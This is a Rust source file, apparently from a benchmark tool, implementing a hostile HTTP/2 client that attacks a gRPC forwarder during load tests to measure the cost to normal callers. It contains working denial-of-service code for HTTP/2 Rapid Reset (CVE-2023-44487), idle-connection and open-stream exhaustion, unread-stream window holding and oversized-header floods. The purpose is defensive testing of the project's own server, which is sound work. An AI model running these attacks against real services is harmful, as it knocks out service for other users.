//! `--attack`: a hostile HTTP/2 caller run alongside the load, against the same `--forwarder`
//! (plaintext), so that the load's latency shows what the attack costs well-behaved callers
//! (`scripts/measure-bench http2`). The attacker speaks raw HTTP/2 with the h2 crate, since a
//! gRPC client would not misbehave. Whenever the server closes an attacker connection, the
//! attacker counts it and connects again, until the run ends.

use std::{
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::Duration,
};

use bytes::Bytes;
use clap::ValueEnum;
use h2::{
    SendStream,
    client::{ResponseFuture, SendRequest},
};
use leaderlink::proto::v1::{Acks, ForwardRequest, PartitionData, Record};
use prost::Message;
use tokio::{
    net::{TcpSocket, TcpStream},
    task::JoinHandle,
};

/// What the attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Forward streams opened and reset at once, in a tight loop (CVE-2023-44487).
    RapidReset,
    /// [`IDLE_CONNECTIONS`] HTTP/2 connections opened and left idle.
    IdleConnections,
    /// A ForwardStream that sends one-record requests as fast as the server's window takes them
    /// and never reads an answer.
    UnreadStream,
    /// [`OPEN_STREAMS`] ForwardStreams on each of [`OPEN_STREAM_CONNECTIONS`] connections, each
    /// with one request, never closed.
    OpenStreams,
    /// [`BIG_HEADER_CALLERS`] callers in a loop of Forward calls each carrying a
    /// [`OVERSIZED_HEADER`] header: over the default `http2_max_header_list_size` of 16 KiB, but
    /// under four times it, so that h2 decodes each and answers it 431 rather than closing the
    /// connection.
    BigHeaders,
    /// [`BIG_HEADER_CALLERS`] callers in a loop of Forward calls each carrying a
    /// [`UNDERSIZED_HEADER`] header: under the default limit, so each call is served. Not an
    /// attack on HTTP/2 but a flood of valid calls with large metadata.
    BigValidHeaders,
}

/// Idle connections the `idle-connections` attacker holds.
const IDLE_CONNECTIONS: usize = 1000;
/// Streams per connection of `open-streams` (under the default `http2_max_concurrent_streams`
/// of 200, so that none is refused).
const OPEN_STREAMS: usize = 190;
/// Connections of `open-streams`.
const OPEN_STREAM_CONNECTIONS: usize = 5;
/// Concurrent callers of `big-headers` and `big-valid-headers`.
const BIG_HEADER_CALLERS: usize = 16;
/// The extra header of `big-headers`: 20 KiB.
const OVERSIZED_HEADER: usize = 20 * 1024;
/// The extra header of `big-valid-headers`: 15 KiB.
const UNDERSIZED_HEADER: usize = 15 * 1024;

/// What the attacker did: `actions` (streams reset, connections opened, requests sent, calls
/// made) and connections the server closed on it.
#[derive(Default)]
pub struct Tally {
    pub actions: AtomicU64,
    pub closed: AtomicU64,
}

/// Where the attacker connects, from where, and at what priority.
pub struct Origin {
    /// The server, host:port.
    pub to: String,
    /// The source address of its connections (`None`: the system's choice).
    pub from: Option<IpAddr>,
    /// Its thread's nice value.
    pub nice: i32,
}

/// Starts `attack` as `origin` says, writing to `topic` partition 0 where it sends requests,
/// until `stop`. The attacker runs on a thread and runtime of its own, so that its loops do not
/// delay the load's tasks on the bench's runtime (it still shares the machine's cores with them
/// and with the server, unless its nice value says otherwise).
pub fn spawn(
    attack: Attack,
    origin: Origin,
    topic: String,
    stop: Arc<AtomicBool>,
) -> (std::thread::JoinHandle<()>, Arc<Tally>) {
    let tally = Arc::new(Tally::default());
    let nice = origin.nice;
    let a = Attacker {
        to: origin.to,
        from: origin.from,
        topic,
        stop,
        tally: tally.clone(),
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("the attacker's runtime");
    let job = std::thread::Builder::new()
        .name("attacker".into())
        .spawn(move || {
            set_nice(nice);
            runtime.block_on(async move {
                match attack {
                    Attack::RapidReset => a.rapid_reset().await,
                    Attack::IdleConnections => a.idle_connections().await,
                    Attack::UnreadStream => a.unread_stream().await,
                    Attack::OpenStreams => {
                        many(a, OPEN_STREAM_CONNECTIONS, Attacker::open_streams).await
                    }
                    Attack::BigHeaders => {
                        many(a, BIG_HEADER_CALLERS, |a| {
                            a.big_headers(OVERSIZED_HEADER, Body::None)
                        })
                        .await
                    }
                    Attack::BigValidHeaders => {
                        many(a, BIG_HEADER_CALLERS, |a| {
                            a.big_headers(UNDERSIZED_HEADER, Body::Request)
                        })
                        .await
                    }
                }
            });
        })
        .expect("the attacker's thread");
    (job, tally)
}

/// Runs `n` copies of `attack` on `a` at once, until each ends.
async fn many<F, Fut>(a: Attacker, n: usize, attack: F)
where
    F: Fn(Arc<Attacker>) -> Fut,
    Fut: std::future::Future<Output = ()> + Send + 'static,
{
    let a = Arc::new(a);
    let each: Vec<_> = (0..n).map(|_| tokio::spawn(attack(a.clone()))).collect();
    for e in each {
        let _ = e.await;
    }
}

type Conn = (SendRequest<Bytes>, JoinHandle<Result<(), h2::Error>>);

struct Attacker {
    to: String,
    from: Option<IpAddr>,
    topic: String,
    stop: Arc<AtomicBool>,
    tally: Arc<Tally>,
}

impl Attacker {
    fn stopped(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }

    fn count(&self) {
        self.tally.actions.fetch_add(1, Ordering::Relaxed);
    }

    /// A new HTTP/2 connection (`None`, after a short pause, when the server refuses it).
    async fn connect(&self) -> Option<Conn> {
        let conn = async {
            let tcp = match self.from {
                None => TcpStream::connect(&self.to).await.ok()?,
                Some(from) => {
                    let to = tokio::net::lookup_host(&self.to).await.ok()?.next()?;
                    let socket = match from {
                        IpAddr::V4(_) => TcpSocket::new_v4(),
                        IpAddr::V6(_) => TcpSocket::new_v6(),
                    }
                    .ok()?;
                    socket.bind(SocketAddr::new(from, 0)).ok()?;
                    socket.connect(to).await.ok()?
                }
            };
            let _ = tcp.set_nodelay(true);
            // h2 closes a connection (GOAWAY ENHANCE_YOUR_CALM, "too_many_data_frames") whose
            // small DATA frames pile up unread. The unread-stream and open-streams callers leave
            // the server's answers unread on purpose: with h2's default budget their own client
            // would close the connection and they would reconnect and send again, a flood of
            // new calls rather than the attack. A raw attacker has no such budget; the server's
            // flow-control windows alone bound what it sends them.
            let (send, conn) = h2::client::Builder::new()
                .data_frame_budget(usize::MAX / 4)
                .handshake(tcp)
                .await
                .ok()?;
            Some((send, tokio::spawn(conn)))
        }
        .await;
        if conn.is_none() {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        conn
    }

    /// The connection `conn` is over: counted, and its task stopped.
    fn lost(&self, conn: &JoinHandle<Result<(), h2::Error>>) {
        if !self.stopped() {
            self.tally.closed.fetch_add(1, Ordering::Relaxed);
        }
        conn.abort();
    }

    /// One gRPC message: a one-record Forward request for the topic's partition 0, acks=1.
    fn message(&self, id: u64) -> Bytes {
        let body = ForwardRequest {
            id,
            acks: Acks::Leader as i32,
            partitions: vec![PartitionData {
                topic: self.topic.clone(),
                partition: 0,
                records: vec![Record {
                    key: None,
                    value: Some(Bytes::from_static(b"attack")),
                    headers: vec![],
                    timestamp_ms: 0,
                }],
                record_batch: Bytes::new(),
            }],
            ..Default::default()
        }
        .encode_to_vec();
        let mut m = Vec::with_capacity(5 + body.len());
        m.push(0);
        m.extend_from_slice(&(body.len() as u32).to_be_bytes());
        m.extend_from_slice(&body);
        Bytes::from(m)
    }

    async fn rapid_reset(&self) {
        while !self.stopped() {
            let Some((mut send, conn)) = self.connect().await else {
                continue;
            };
            while !self.stopped() {
                let Ok(ready) = send.ready().await else { break };
                send = ready;
                let Ok((_, mut stream)) = send.send_request(headers("Forward", 0), false) else {
                    break;
                };
                stream.send_reset(h2::Reason::CANCEL);
                self.count();
                // Let the load's tasks run on this runtime too.
                tokio::task::yield_now().await;
            }
            self.lost(&conn);
        }
    }

    async fn idle_connections(&self) {
        let mut held: Vec<Conn> = Vec::with_capacity(IDLE_CONNECTIONS);
        while !self.stopped() {
            held.retain(|(_, conn)| {
                let over = conn.is_finished();
                if over {
                    self.lost(conn);
                }
                !over
            });
            while held.len() < IDLE_CONNECTIONS && !self.stopped() {
                match self.connect().await {
                    Some(c) => {
                        held.push(c);
                        self.count();
                    }
                    None => break,
                }
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        for (_, conn) in held {
            conn.abort();
        }
    }

    async fn unread_stream(&self) {
        let mut id = 0;
        while !self.stopped() {
            let Some((mut send, conn)) = self.connect().await else {
                continue;
            };
            // The answers are never polled: nothing of them is read or released.
            let Ok((_answers, mut requests)) =
                send.send_request(headers("ForwardStream", 0), false)
            else {
                self.lost(&conn);
                continue;
            };
            while !self.stopped() {
                id += 1;
                let m = self.message(id);
                // Only as much as the server's window takes: the attacker's memory stays flat.
                requests.reserve_capacity(m.len());
                let room = tokio::time::timeout(
                    Duration::from_millis(100),
                    std::future::poll_fn(|cx| requests.poll_capacity(cx)),
                )
                .await;
                match room {
                    Err(_) => continue,
                    Ok(Some(Ok(_))) => {}
                    Ok(_) => break,
                }
                if requests.send_data(m, false).is_err() {
                    break;
                }
                self.count();
            }
            self.lost(&conn);
        }
    }

    /// Opens a stream for `method` (with `padding` bytes of extra header) on `send` and sends
    /// request `id` on it, ending the stream if `end`; `None` once the connection is over.
    async fn request(
        &self,
        send: SendRequest<Bytes>,
        method: &str,
        padding: usize,
        id: u64,
        end: bool,
    ) -> Option<(SendRequest<Bytes>, ResponseFuture, SendStream<Bytes>)> {
        let mut send = send.ready().await.ok()?;
        let (answer, mut requests) = send.send_request(headers(method, padding), false).ok()?;
        requests.send_data(self.message(id), end).ok()?;
        self.count();
        Some((send, answer, requests))
    }

    async fn open_streams(self: Arc<Self>) {
        let mut id = 0;
        while !self.stopped() {
            let Some((mut send, conn)) = self.connect().await else {
                continue;
            };
            let mut open = Vec::with_capacity(OPEN_STREAMS);
            while open.len() < OPEN_STREAMS && !self.stopped() {
                id += 1;
                let Some((ready, answer, requests)) =
                    self.request(send, "ForwardStream", 0, id, false).await
                else {
                    break;
                };
                send = ready;
                open.push((answer, requests));
            }
            // Held open until the run ends or the server closes the connection.
            while !self.stopped() && !conn.is_finished() {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            drop(open);
            self.lost(&conn);
        }
    }

    /// Forward calls with a `size`-byte extra header, one after the other, reading each answer
    /// (a refused one included) before the next.
    async fn big_headers(self: Arc<Self>, size: usize, body: Body) {
        let mut id = 0;
        while !self.stopped() {
            let Some((mut send, conn)) = self.connect().await else {
                continue;
            };
            while !self.stopped() {
                id += 1;
                let sent = if body == Body::None {
                    // Refused before any body is read: the headers alone, ending the stream.
                    async {
                        let mut send = send.ready().await.ok()?;
                        let (answer, _) = send.send_request(headers("Forward", size), true).ok()?;
                        self.count();
                        Some((send, answer))
                    }
                    .await
                } else {
                    self.request(send, "Forward", size, id, true)
                        .await
                        .map(|(send, answer, _)| (send, answer))
                };
                let Some((ready, answer)) = sent else {
                    break;
                };
                send = ready;
                let answer = match answer.await {
                    Ok(a) => a,
                    // This stream was refused; the connection goes on.
                    Err(e) if e.is_reset() => continue,
                    Err(_) => break,
                };
                let mut body = answer.into_body();
                while let Some(Ok(d)) = body.data().await {
                    let _ = body.flow_control().release_capacity(d.len());
                }
            }
            self.lost(&conn);
        }
    }
}

/// Whether the calls of `big_headers` carry a request after their headers.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Body {
    /// The headers alone, ending the stream (calls the server refuses before any body).
    None,
    /// A one-record Forward request (calls the server serves).
    Request,
}

/// The headers of a gRPC call to `method` of the Forwarder, with `padding` bytes of an extra
/// header when not 0.
fn headers(method: &str, padding: usize) -> http::Request<()> {
    let mut r = http::Request::post(format!(
        "http://leaderlink/leaderlink.v1.Forwarder/{method}"
    ))
    .header("content-type", "application/grpc")
    .header("te", "trailers");
    if padding > 0 {
        r = r.header("x-padding", "p".repeat(padding));
    }
    r.body(()).expect("valid request head")
}

/// Sets the calling thread's nice value (on Linux, `setpriority` with `PRIO_PROCESS` and a
/// thread id acts on that thread alone); a failure is reported and the attack goes on.
fn set_nice(nice: i32) {
    if nice == 0 {
        return;
    }
    // SAFETY: gettid and setpriority take plain integers and touch no memory of ours.
    let r = unsafe {
        let tid = libc::syscall(libc::SYS_gettid) as libc::id_t;
        libc::setpriority(libc::PRIO_PROCESS, tid, nice)
    };
    if r != 0 {
        eprintln!(
            "attacker: setpriority({nice}) failed: {}",
            std::io::Error::last_os_error()
        );
    }
}
